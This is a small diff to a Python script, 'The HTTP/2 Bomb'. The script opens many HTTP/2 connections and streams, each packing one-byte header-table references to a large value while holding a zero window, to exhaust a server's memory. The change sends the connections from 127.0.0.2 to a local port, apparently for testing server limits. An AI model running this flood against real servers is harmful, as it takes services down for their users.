@@ -1,6 +1,6 @@
 """The HTTP/2 Bomb: `bomb.py PORT SECONDS RESULT_FILE HOST FIELDS NAME BYTES`.
 
-40 connections, 128 streams on each, and in each request FIELDS fields that cost one byte on the wire: references to
+40 connections from 127.0.0.2, 128 streams on each, and in each request FIELDS fields that cost one byte on the wire: references to
 one entry of the dynamic table, of the name NAME with a value of BYTES. The client's window is zero, so that no answer's
 body can be sent, and it keeps everything open. The result says how many bytes it has sent.
 """
@@ -44,7 +44,7 @@ def requests() -> bytes:
 async def connection():
     global sent, refused
     try:
-        reader, writer = await asyncio.open_connection("127.0.0.1", port)
+        reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=("127.0.0.2", 0))
         data = requests()
         writer.write(data + frame(4, 1, 0, b""))
         sent += len(data)
